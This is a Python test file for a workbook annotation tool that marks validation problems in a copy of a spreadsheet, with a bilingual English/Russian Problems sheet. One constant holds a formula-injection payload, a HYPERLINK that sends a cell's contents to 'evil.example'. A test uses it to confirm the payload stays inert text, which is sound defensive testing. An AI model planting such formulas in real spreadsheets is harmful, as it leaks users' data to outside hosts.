"""annotate_workbook: a marked copy for the official; the input file is never touched."""

from __future__ import annotations

import hashlib
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from workbook_support import check, keys, rewrite_sheet_xml

from readiness.problems import ReadinessError, lookup
from readiness.rubric.model import Rubric
from readiness.workbook import annotate_workbook
from readiness.workbook import layout as L
from readiness.workbook.validate import WorkbookReport

Make = Callable[..., Path]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def broken(book: Any) -> None:
    ws = book["Values"]
    ws["G2"] = 140  # error
    ws["I3"] = None  # warning
    ws["G5"] = "great"  # error
    ws["K5"] = "not a level I know"
    ws["K4"] = EVIL
    ws["K4"].data_type = "s"
    ws.delete_rows(13)  # missing row: a problem with no cell


def test_annotated_copy_marks_cells_and_leaves_input_alone(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    before = sha(src)
    report = check(src, rubric)
    assert keys(report) == [
        (f"{src}!Values!G2", "out-of-limits"),
        (f"{src}!Values!I3", "missing-source"),
        (f"{src}!Values!G5", "unknown-level"),
        (f"{src}!Values UZB/us_bit", "missing-row"),
    ]
    dest = tmp_path / "checked.xlsx"
    annotate_workbook(src, report, dest)
    assert sha(src) == before

    book = openpyxl.load_workbook(dest)
    ws = book["Values"]
    assert ws["G2"].fill.fgColor.rgb.endswith(L.ERROR_FILL)
    assert ws["I3"].fill.fgColor.rgb.endswith(L.WARNING_FILL)
    assert ws["G2"].comment is not None
    assert "MUST FIX: 140 is outside the allowed range 0 to 100" in ws["G2"].comment.text
    assert ws["I3"].comment is not None and "PLEASE CHECK" in ws["I3"].comment.text
    assert ws["G3"].comment is None
    assert ws["G3"].fill.fgColor.rgb.endswith(L.INPUT_FILL)  # untouched cells keep their look

    assert book.sheetnames[0] == L.PROBLEMS
    assert book.active is not None and book.active.title == L.PROBLEMS
    problems = book[L.PROBLEMS]
    rows = list(problems.iter_rows(min_row=6, values_only=True))
    assert [(r[0], r[1], r[3]) for r in rows] == [
        ("Values!G2", "must fix", "out-of-limits"),
        ("Values!G5", "must fix", "unknown-level"),
        ("Values UZB/us_bit", "must fix", "missing-row"),
        ("Values!I3", "please check", "missing-source"),
    ]
    assert problems["A6"].hyperlink is not None
    assert problems["A6"].hyperlink.location == "'Values'!G2"
    assert "3 problems to fix (red) and 1 to check (amber)" in str(problems["A2"].value)

    # The copy still validates the same way: marks, comments and the Problems sheet are ignored.
    assert keys(check(dest, rubric)) == [
        (k.replace(str(src), str(dest)), c) for k, c in keys(report)
    ]


def test_hostile_note_stays_text_in_the_annotated_copy(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    dest = tmp_path / "checked.xlsx"
    annotate_workbook(src, check(src, rubric), dest)
    ws = openpyxl.load_workbook(dest)["Values"]
    assert ws["K4"].value == EVIL and ws["K4"].data_type == "s"
    with zipfile.ZipFile(dest) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_clean_workbook_gets_a_problems_sheet_saying_so(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook()
    dest = tmp_path / "ok.xlsx"
    annotate_workbook(src, check(src, rubric), dest)
    problems = openpyxl.load_workbook(dest)[L.PROBLEMS]
    assert problems["A2"].value.startswith("No problems found.")


def test_sheet_level_and_about_problems(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook()
    report = check(src, rubric, period="2026-Q3")
    dest = tmp_path / "checked.xlsx"
    annotate_workbook(src, report, dest)
    book = openpyxl.load_workbook(dest)
    assert book["About"]["B2"].comment is not None
    assert [r[0] for r in book[L.PROBLEMS].iter_rows(min_row=6, values_only=True)] == ["About!B2"]


def test_annotating_twice_replaces_the_problems_sheet(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    first, second = tmp_path / "first.xlsx", tmp_path / "second.xlsx"
    annotate_workbook(src, check(src, rubric), first)
    annotate_workbook(first, check(first, rubric), second)
    book = openpyxl.load_workbook(second)
    assert book.sheetnames.count(L.PROBLEMS) == 1


def test_refuses_to_overwrite_the_input(make_workbook: Make, rubric: Rubric) -> None:
    src = make_workbook(broken)
    before = sha(src)
    with pytest.raises(ReadinessError) as err:
        annotate_workbook(src, check(src, rubric), src)
    assert err.value.problems[0].code == "output-is-input"
    assert sha(src) == before


def test_unreadable_input_cannot_be_annotated(tmp_path: Path, rubric: Rubric) -> None:
    src = tmp_path / "junk.xlsx"
    src.write_bytes(b"junk")
    report = check(src, rubric)
    with pytest.raises(ReadinessError):
        annotate_workbook(src, report, tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def test_report_for_a_missing_file(tmp_path: Path) -> None:
    report = WorkbookReport(file=str(tmp_path / "none.xlsx"))
    with pytest.raises(ReadinessError):
        annotate_workbook(tmp_path / "none.xlsx", report, tmp_path / "out.xlsx")


def test_huge_merge_is_reported_and_not_annotated(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook()
    dest = tmp_path / "merged.xlsx"

    def merge_everything(xml: bytes) -> bytes:
        tail = b'<mergeCells count="1"><mergeCell ref="A20:XFD1048576"/></mergeCells>'
        return xml.replace(b"</sheetData>", b"</sheetData>" + tail, 1)

    rewrite_sheet_xml(src, dest, "Values", merge_everything)
    report = check(dest, rubric)
    assert keys(report) == [(f"{dest}!Values!A20", "merged-cells")]
    with pytest.raises(ReadinessError) as err:
        annotate_workbook(dest, report, tmp_path / "out.xlsx")
    assert err.value.problems[0].code == "limit-sheet-extent"


def test_problems_inside_merged_cells_are_marked_on_the_visible_cell(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    # openpyxl refuses a comment on a merged-away cell: this was an AttributeError traceback.
    def merge(book: Any) -> None:
        book["Values"].merge_cells("G2:G4")

    src = make_workbook(merge)
    report = check(src, rubric)
    assert any(loc.endswith("!Values!G2") for loc, _ in keys(report))
    dest = tmp_path / "checked.xlsx"
    annotate_workbook(src, report, dest)
    ws = openpyxl.load_workbook(dest)["Values"]
    assert ws["G2"].comment is not None and "merged" in ws["G2"].comment.text


def test_the_russian_copy_reads_in_russian_with_the_english_detail(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    report = check(src, rubric)
    english, russian = tmp_path / "en.xlsx", tmp_path / "ru.xlsx"
    annotate_workbook(src, report, english)
    annotate_workbook(src, report, russian, language="ru")
    book = openpyxl.load_workbook(russian)
    assert book.sheetnames[0] == "Замечания" and L.PROBLEMS not in book.sheetnames
    assert book.active is not None and book.active.title == "Замечания"
    sheet = book["Замечания"]
    assert sheet["A1"].value == f"Проверка файла «{src.name}»"
    assert sheet["A2"].value == (
        "Нужно исправить: 3 (красные ячейки); нужно проверить: 1 (оранжевые ячейки)."
        f" Период {report.period}."
    )
    assert [c.value for c in sheet[5]] == ["Место", "Важность", "Замечание", "Код"]
    rows = list(sheet.iter_rows(min_row=6, values_only=True))
    by_message = {p.code: p.message for p in report.problems}
    assert [(r[0], r[1], r[3]) for r in rows] == [
        ("лист «Values», ячейка G2", "исправить", "out-of-limits"),
        ("лист «Values», ячейка G5", "исправить", "unknown-level"),
        ("лист «Values», путь UZB/us_bit", "исправить", "missing-row"),
        ("лист «Values», ячейка I3", "проверить", "missing-source"),
    ]
    for row in rows:
        entry = lookup(str(row[3]))
        assert row[2] == (
            f"{entry.meaning_in('ru')} {entry.action_in('ru')} ({by_message[entry.code]})"
        )
    assert sheet["A6"].hyperlink is not None and sheet["A6"].hyperlink.location == "'Values'!G2"

    ws = book["Values"]
    assert ws["G2"].comment is not None and ws["I3"].comment is not None
    assert ws["G2"].comment.text.startswith(
        f"ИСПРАВИТЬ: {lookup('out-of-limits').meaning_in('ru')}"
    )
    assert "(140 is outside the allowed range 0 to 100" in ws["G2"].comment.text
    assert ws["I3"].comment.text.startswith("ПРОВЕРИТЬ: ")
    assert ws["G2"].fill.fgColor.rgb.endswith(L.ERROR_FILL)

    # The same cells are marked in both languages, and the Russian copy validates the same way.
    en_book = openpyxl.load_workbook(english)
    marked = [
        (c.coordinate, c.fill.fgColor.rgb)
        for c in en_book["Values"]._cells.values()
        if c.comment is not None
    ]
    assert marked and marked == [
        (c.coordinate, c.fill.fgColor.rgb) for c in ws._cells.values() if c.comment is not None
    ]
    assert keys(check(russian, rubric)) == [
        (k.replace(str(src), str(russian)), c) for k, c in keys(report)
    ]


def test_a_clean_russian_copy_says_so_and_names_the_period(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook()
    report = check(src, rubric)
    dest = tmp_path / "ok.xlsx"
    annotate_workbook(src, report, dest, language="ru")
    summary = openpyxl.load_workbook(dest)["Замечания"]["A2"].value
    assert summary == f"Замечаний нет. Период {report.period}."
    assert report.period


def test_annotating_in_another_language_replaces_the_problems_sheet(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    first, second, third = (tmp_path / f"{k}.xlsx" for k in ("first", "second", "third"))
    annotate_workbook(src, check(src, rubric), first, language="ru")
    annotate_workbook(first, check(first, rubric), second)
    annotate_workbook(second, check(second, rubric), third, language="ru")
    assert openpyxl.load_workbook(second).sheetnames[0] == L.PROBLEMS
    names = openpyxl.load_workbook(third).sheetnames
    assert names[0] == "Замечания" and L.PROBLEMS not in names
    assert names.count("Замечания") == 1


def test_english_copy_is_the_same_with_language_en(
    make_workbook: Make, rubric: Rubric, tmp_path: Path
) -> None:
    src = make_workbook(broken)
    report = check(src, rubric)
    default, named = tmp_path / "default.xlsx", tmp_path / "named.xlsx"
    annotate_workbook(src, report, default)
    annotate_workbook(src, report, named, language="en")
    assert sha(default) == sha(named)
